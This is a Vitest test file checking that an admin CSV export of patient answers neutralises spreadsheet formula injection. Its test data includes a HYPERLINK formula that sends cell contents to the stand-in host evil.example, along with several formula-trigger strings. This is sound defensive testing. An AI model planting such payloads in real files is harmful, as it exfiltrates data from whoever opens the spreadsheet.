import { describe, expect, it } from 'vitest';
import { answers } from '../../src/server/schema';
import { csvRecords } from '../helpers/csv';
import { firstQuestionOfType, storedAnswer } from '../helpers/seed-answers';
import { useTestApp } from '../helpers/test-app';

const t = useTestApp();

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")';
/** Each starts a cell that a spreadsheet would run as a formula (OWASP CSV injection). */
const FORMULAS = ['=1+1', '+SUM(A1:A9)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1'];

describe('answers CSV export', () => {
  it('neutralises cells that a spreadsheet would run as formulas, and keeps the rest as typed', async () => {
    const admin = await t.createAdmin();
    const patient = await t.createPatient({ firstName: HYPERLINK, lastName: '@Attacker' });
    const text = await firstQuestionOfType(t.database.db, 'text');
    const typed = [...FORMULAS, 'Clicks, "sometimes" loudly\nat night', '-'];
    // Answers of several assessments to the same question, as an old import could have left them.
    for (const answerText of typed) {
      const other = await t.createPatient({ firstName: 'Plain', lastName: 'Patient' });
      await t.database.db.insert(answers).values({
        userId: other.id,
        assessmentId: other.assessmentId,
        questionId: text.id,
        ...storedAnswer({ answerText }),
      });
    }
    await t.database.db.insert(answers).values({
      userId: patient.id,
      assessmentId: patient.assessmentId,
      questionId: text.id,
      ...storedAnswer({ answerText: 'fine' }),
    });

    const reply = await t.app.inject({
      method: 'GET',
      url: '/api/admin/exports/answers.csv',
      headers: admin.headers,
    });
    expect(reply.statusCode).toBe(200);
    const body = reply.body.replace(/^\uFEFF/, '');
    // OWASP: a single quote in front, and the cell in double quotes.
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(body).toContain(`"'@Attacker"`);

    const [header, ...rows] = csvRecords(body);
    const column = (name: string) => header!.indexOf(name);
    const attacker = rows.find(
      (row) => row[column('assessment_id')] === String(patient.assessmentId),
    );
    expect(attacker?.[column('patient_first_name')]).toBe(`'${HYPERLINK}`);
    expect(attacker?.[column('patient_last_name')]).toBe(`'@Attacker`);

    const cells = rows.map((row) => row[column('answer_text')]);
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
    expect(cells).toContain('Clicks, "sometimes" loudly\nat night');
    expect(cells).toContain("'-");
    // Numbers stay numbers, not text with a quote.
    expect(rows.every((row) => /^\d+$/.test(row[column('question_id')]!))).toBe(true);
  });
});
